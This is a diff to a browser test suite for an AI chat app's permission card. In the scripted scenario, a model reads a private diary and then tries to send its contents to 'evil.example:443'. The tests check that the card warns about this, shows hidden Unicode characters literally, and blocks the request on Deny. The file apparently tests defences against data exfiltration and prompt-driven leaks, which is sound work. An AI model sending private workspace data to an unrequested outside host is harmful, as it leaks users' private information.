@@ -26,7 +26,7 @@ SCRIPT = Script([
     when("letter", say("I write to her."), call("post", to="grace@example.org", text=LETTER)),
     when("diary", call("read_diary")),
     when("fire", call("fire", at="the old barn")),
-    after("read_diary", call("visit", host="evil.example:443", said="what the diary says")),
+    after("read_diary", call("visit", host="evil.example:443", said="It says: {result}")),
     after("post", say("It says: {result}")),
     after("visit", say("It says: {result}")),
     after("fire", say("It says: {result}")),
@@ -71,7 +71,7 @@ async def test_an_allowed_letter_is_sent_once_with_what_was_shown(
     await set_up(page, served)
     await start_chat(page, served, "Write her a letter")
     await expect(card(page)).to_be_visible()
-    await expect(card(page)).to_contain_text("mail:grace@example.org")
+    await expect(card(page)).to_contain_text("Allow this mail to grace@example.org?")
     await expect(card(page)).to_contain_text("Dear Grace,")
     # Hidden characters are seen, and text is text.
     await expect(card(page)).to_contain_text("page⟨U+202E⟩7 ⟨U+200B⟩of the <b>report</b>")
@@ -119,8 +119,16 @@ async def test_what_is_allowed_for_the_chat_is_not_asked_again_there(
 async def test_after_a_private_reading_it_says_why_it_asks(page: Page, served: Served) -> None:
     await set_up(page, served)
     await start_chat(page, served, "Read the diary")
-    await expect(card(page)).to_contain_text("evil.example:443")
-    await expect(card(page)).to_contain_text("private data was read before (read_diary)")
+    await expect(card(page)).to_contain_text("Allow this request to evil.example?")
+    await expect(card(page)).to_contain_text(
+        "The chat has read your workspace; you have not mentioned this site."
+    )
+    await expect(card(page).locator(".leaving mark")).to_have_text("read diary")
+    await expect(card(page).locator(".until")).to_contain_text("Expires (as Deny) tomorrow")
+    await expect(card(page).locator("pre")).to_have_count(2)
+    await expect(card(page).locator("pre").first).to_be_hidden()
+    await card(page).get_by_text("The whole request").click()
+    await expect(card(page).locator("pre mark")).to_have_count(0)
     await card(page).get_by_role("button", name="Deny").click()
     await ended(page, 1)
     assert "visit" not in ran(served)
@@ -197,7 +205,7 @@ async def test_the_card_fits_every_page(
     await page.set_viewport_size({"width": width, "height": 860})
     await page.emulate_media(color_scheme="dark" if theme == "dark" else "light")
     await set_up(page, served)
-    await start_chat(page, served, "Write her a letter")
+    await start_chat(page, served, "Read the diary")
     await expect(card(page)).to_be_visible()
     assert await page.evaluate("document.scrollingElement.scrollWidth <= innerWidth")
     for button in await card(page).get_by_role("button").all():
